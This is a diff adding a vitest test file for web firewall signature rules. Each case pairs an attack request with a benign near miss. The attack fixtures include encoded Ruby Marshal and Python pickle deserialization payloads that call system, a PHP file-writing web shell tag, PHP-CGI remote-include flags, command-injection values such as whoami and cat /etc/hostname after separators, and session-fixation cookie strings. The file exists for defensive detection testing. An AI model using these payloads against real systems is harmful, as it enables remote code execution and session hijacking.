@@ -1,0 +1,88 @@
+/**
+ * Bundled rules 9001601–9001651 (issue 14): what an attack family is caught by exactly — the magic of a
+ * serialized object in every target and decoding, a PHP tag's first call, a php.ini directive that lifts
+ * a restriction, a JS tagged-template call or an empty infinite loop, a quoted or caret-broken cmd word
+ * after a separator, a command word spliced with an empty expansion, a Cookie string naming a session id
+ * inside a value. Each blocks its attack wherever the value sits and stays quiet on the benign text
+ * closest to it (a Rails session cookie, gzip'd JSON state, a theme template, a PHP settings form, a
+ * Markdown code span, a search with quotes and a pipe, a regex anchor, ANSI colours in a script).
+ */
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { CompiledSignatureGate } from '../../src/signatures/compile/compile-rules.js';
+import type { RequestSpec } from './fixtures.js';
+import { BROWSER, bundledGate, form, header, json, q } from './bundled-requests.js';
+import { buildInspection as inspect } from '../../src/inspect/build-inspection.js';
+
+let gate: CompiledSignatureGate;
+beforeAll(async () => {
+  gate = await bundledGate();
+});
+// Through the real inspector: several of these rules read decoded forms (base64, gzip inside base64).
+const hits = (spec: RequestSpec): Array<[number, string]> =>
+  gate
+    .evaluate(
+      inspect({
+        method: spec.method ?? 'GET',
+        url: spec.url ?? '/',
+        httpVersion: '1.1',
+        rawHeaders: (spec.headers ?? BROWSER).flat(),
+        body: Buffer.from(spec.body ?? ''),
+        bodyTruncated: false,
+        source: { ip: '203.0.113.9', port: 40000, peerIp: '203.0.113.9' },
+      }),
+    )
+    .hits.map((h) => [h.sid, h.effect]);
+const cookie = (value: string): RequestSpec => header('Cookie', value);
+
+// Marshal.dump of a Net::WriteAdapter whose socket is Kernel and method `system` (a gadget's root object)
+const RUBY_OBJECT = 'BAhvOhZOZXQ6OldyaXRlQWRhcHRlcgc6DEBzb2NrZXRvOgtLZXJuZWwAOg9AbWV0aG9kX2lkOgtzeXN0ZW0=';
+// a Rails cookie-store session: a hash root ({"session_id" => "4f0c…"})
+const RAILS_SESSION = 'BAh7BkkiD3Nlc3Npb25faWQGOgZFVEkiJTRmMGM5YTNlNWI3ZDFlMmY4YTZjNGIwZDllMWYzYTVjBjsAVA%3D%3D--6a1f0c2b9d';
+// gzip'd, base64'd, percent-encoded: a Java object stream (java.util.HashSet) and ordinary JSON list state
+const JAVA_GZIP = 'H4sIAAAAAAACA1vzloG1uIhBMCuxLFGvtCQzR88jsTgjOLVkl0vr1Gk7tpswMzBUFAAAZavyOiYAAAA%3D';
+const JSON_GZIP = 'H4sIAAAAAAACA6tWSsvMKUktKlayqlZKKkrMS1GyilZKTM5NVYrVUSooykxOBQoYGuiYGsTWAgUS04F841oAoPxOBTcAAAA%3D';
+// gzip'd pickle (protocol 5) calling os.system('id'); a protocol-2 pickle calling posix.system('id')
+const PICKLE5_GZIP = 'H4sIAAAAAAACA2tgnarBAAE9TPnFU3rYiiuLS1Jzp0ye0sOUmTKldUrQFD0A36IVfiUAAAA=';
+const PICKLE2 = 'gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==';
+
+// [sid, attack name, attack, benign near miss]; every one of these rules blocks alone
+const CASES: Array<[number, string, RequestSpec, RequestSpec]> = [
+  [9001601, 'a Ruby Marshal root object in a JSON value', json(`{"state":"${RUBY_OBJECT}"}`), cookie(`_shop_session=${RAILS_SESSION}`)],
+  [9001601, 'a Ruby Marshal root object as hex in a query', q('data=04086f3a164e65743a3a577269746541646170746572073a'), q('color=04086f&hash=3a1547656d')],
+  [9001602, "a gzip'd Java object stream in a query value", q(`state=${JAVA_GZIP}`), q(`state=${JSON_GZIP}`)],
+  [9001602, "a gzip'd pickle in a path segment", { url: `/restore/${encodeURIComponent(PICKLE5_GZIP)}` }, { url: `/restore/${JSON_GZIP}` }],
+  [9001603, "a gzip'd pickle in a header", header('X-Client-State', PICKLE5_GZIP), header('X-Client-State', decodeURIComponent(JSON_GZIP))],
+  [9001604, 'a text-protocol pickle in a form value, line breaks percent-encoded', form("data=cposix%0Asystem%0A(S'id'%0AtR."), form('notes=Marcos%0Asystem%0Aadmin%0Apopen%0A')],
+  [9001604, 'a protocol-2 pickle in a JSON value', json(`{"blob":"${PICKLE2}"}`), json('{"blob":"gAJ2kq9vXh3LmQ1wTt8sPzA=="}')],
+  [9001605, 'a protocol-2 pickle in a cookie', cookie(`lang=en; remember=${PICKLE2}`), cookie('lang=en; remember=gAJ2kq9vXh3LmQ1wTt8sPzA')],
+  [9001606, 'a gadget class as a JVM descriptor in a form value', form('type=Lorg%2Fapache%2Fcommons%2Fbeanutils%2FBeanComparator%3B&x=1'), json('{"method":"valueOf","signature":"(Ljava/lang/String;)Ljava/lang/Integer;"}')],
+  [9001610, 'a PHP tag writing a file from a JSON value', json('{"bio":"<?php file_put_contents(\'s.php\', base64_decode($_POST[\'x\'])); ?>"}'), form('file=header.php&newcontent=%3C%3Fphp+get_header()%3B+%3F%3E%0A%3Cmain%3E%3C%3Fphp+the_content()%3B+%3F%3E%3C%2Fmain%3E')],
+  [9001610, 'a PHP tag calling phpinfo in a query', q('lang=%3C%3Fphp%20phpinfo()%3B%20%3F%3E'), json('{"code":"<?php echo htmlspecialchars($user[\'name\'], ENT_QUOTES, \'UTF-8\'); ?>"}')],
+  [9001611, 'PHP-CGI -d flags enabling remote includes', q('-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input'), form('allow_url_fopen=On&memory_limit=256M&display_errors=Off')],
+  [9001611, 'directives emptying disable_functions in a JSON value', json('{"settings":"open_basedir=none;disable_functions="}'), q('q=what+does+disable_functions+do%3F')],
+  [9001612, 'a remote include without a tag in a form value', form('page=include(%27http%3A%2F%2F203.0.113.9%2Fs.txt%27)%3B'), json('{"code":"include(\'header.php\');"}')],
+  [9001620, 'a setTimeout tagged template running code', q('cb=setTimeout%60process.exit(1)%60'), json('{"body":"Use `setTimeout` or `setInterval`; never `eval` with a string."}')],
+  [9001620, 'a Function tagged template in JSON', json('{"name":"Function`x=1;while(x);`"}'), json('{"body":"Function`s are objects in JS"}')],
+  [9001621, 'an empty infinite loop after a quote breakout', json('{"filter":"\');for(;;){}//"}'), json('{"body":"My loop `while (true) { poll(); }` never exits"}')],
+  [9001621, 'an empty infinite loop as a whole value', form('sort=while(1)%7B%7D'), q('q=while(true)+loop+in+java')],
+  [9001630, 'a quoted cmd word after a pipe', q('host=127.0.0.1%7C%22whoami%22'), q('q=nginx+%7C+%22type%22+field')],
+  [9001630, 'a quoted, caret-broken cmd word after ^& in JSON', json('{"file":"a.txt^&\\"host^name\\""}'), json('{"query":"\\"type\\":\\"net\\""}')],
+  [9001631, 'a caret inside a cmd word after a pipe', json('{"host":"8.8.8.8|n^slookup x.test"}'), q('q=x%7Cn%5E2')],
+  [9001631, 'a caret inside type after &', q('file=a.txt%26t%5Eype%20c%3A%5Cboot.ini'), q('filter=%5E(net%7Cdir)%2F')],
+  [9001640, 'ANSI-C quoting spelling a command', q('q=%24%27%5Cx69d%27'), json('{"script":"IFS=$\'\\\\n\'; printf $\'\\\\x1b[32mok\\\\x1b[0m\'"}')],
+  [9001641, 'a command word spliced with $@ in backticks', form('host=1%60who%24%40ami%60'), json('{"body":"`$@` and `$*` differ when quoted: `$(printf \'%s\' \\"$x\\")`"}')],
+  [9001641, "a command word spliced with '' in a substitution", json('{"name":"$(ca\'\'t /etc/hostname)"}'), json('{"body":"run `make` then `make install`"}')],
+  [9001650, 'a Cookie string with a session id in a query value', q('ret=lang%3Den%3B%20PHPSESSID%3Dattacker01'), { url: '/app;jsessionid=4F1C9A0B7D2E3F4A5B6C7D8E9F0A1B2C?x=1' }],
+  [9001650, 'a Cookie string with a generic sid in a path segment', { url: '/go/lang=en;%20sid=fixed123' }, q('q=a%3Db%3B%20c%3Dd')],
+  [9001651, 'a Cookie string with a session id in a JSON value', json('{"ref":"theme=dark; session_id=s1x2"}'), json('{"cookie_policy":"theme=dark; lang=en"}')],
+];
+
+describe('bundled rules for the issue-14 family mechanisms (9001601–9001651)', () => {
+  it.each(CASES.map(([sid, name, attack]) => [`${sid} ${name}`, sid, attack] as const))('%s: blocks', (_n, sid, attack) => {
+    expect(hits(attack)).toContainEqual([sid, 'block']);
+  });
+
+  it.each(CASES.map(([sid, name, , benign]) => [`${sid} ${name}`, sid, benign] as const))('%s: quiet on the near miss', (_n, sid, benign) => {
+    expect(hits(benign).map(([s]) => s)).not.toContain(sid);
+  });
+});
